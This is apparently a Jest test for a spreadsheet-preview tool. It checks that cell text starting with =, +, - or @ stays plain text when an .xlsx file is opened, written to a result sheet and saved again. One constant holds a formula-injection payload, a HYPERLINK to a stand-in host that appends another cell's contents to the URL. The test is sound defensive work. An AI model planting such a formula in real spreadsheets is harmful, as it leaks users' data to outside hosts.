/**
 * Bad-input catalogue, next to cases/xlsxOpen.ts (issue 11): a file whose cells hold text that
 * looks like a formula is opened, not refused — and the text stays text: in the opened
 * workbook, in a result sheet a pane writes from it, and in the file saved again. (The runner
 * of catalogue.test.ts only knows inputs that must be refused.)
 */
import * as ExcelJS from "exceljs";
import JSZip from "jszip";
import { MemoryWorkbookPort } from "../../src/preview/MemoryWorkbookPort";
import { openXlsx, writeXlsx } from "../../src/preview/xlsx";
import { xlsxWith } from "./cases/xlsxOpen";

const HOSTILE = '=HYPERLINK("http://example.invalid/?d="&A4;"Klik")';

describe("a file with formula-like text opens as text (issue 11)", () => {
  it("keeps =…, +…, -… and @… text as text through open, a pane's write and save", async () => {
    const data = await xlsxWith((xml) => xml, [
      ["A1", HOSTILE],
      ["A2", "+31 6 12345678"],
      ["A3", "-korting"],
      ["A4", "@SOM(1)"],
      ["B1", { formula: "1+1", result: 2 } as ExcelJS.CellFormulaValue],
    ]);
    const port = new MemoryWorkbookPort();
    port.adopt(await openXlsx(ExcelJS, JSZip, data));
    expect(port.values("Blad1").map((row) => row[0])).toEqual([HOSTILE, "+31 6 12345678", "-korting", "@SOM(1)"]);
    for (const address of ["A1", "A2", "A3", "A4"]) expect(port.formulaAt("Blad1", address)).toBeUndefined();
    // a real formula in the file stays a formula: the check above is not blind
    expect(port.formulaAt("Blad1", "B1")).toBe("=1+1");

    // a pane copies the names into a result sheet: still text there
    const written = await port.writeTable({ sheetName: "Uitkomst", columns: [{ header: "Naam" }], rows: port.values("Blad1").map((row) => [row[0]]) });
    for (let r = 2; r <= 5; r++) expect(port.formulaAt(written.sheetName, `A${r}`)).toBeUndefined();
    expect(port.values(written.sheetName)[1][0]).toBe(HOSTILE);

    const saved = new ExcelJS.Workbook();
    await saved.xlsx.load((await writeXlsx(ExcelJS, port.toWorkbook())) as unknown as ExcelJS.Buffer);
    expect(saved.getWorksheet("Blad1")!.getCell("A1").value).toBe(HOSTILE);
    expect(saved.getWorksheet("Uitkomst")!.getCell("A2").value).toBe(HOSTILE);
    expect(saved.getWorksheet("Blad1")!.getCell("B1").formula).toBe("1+1");
  });
});
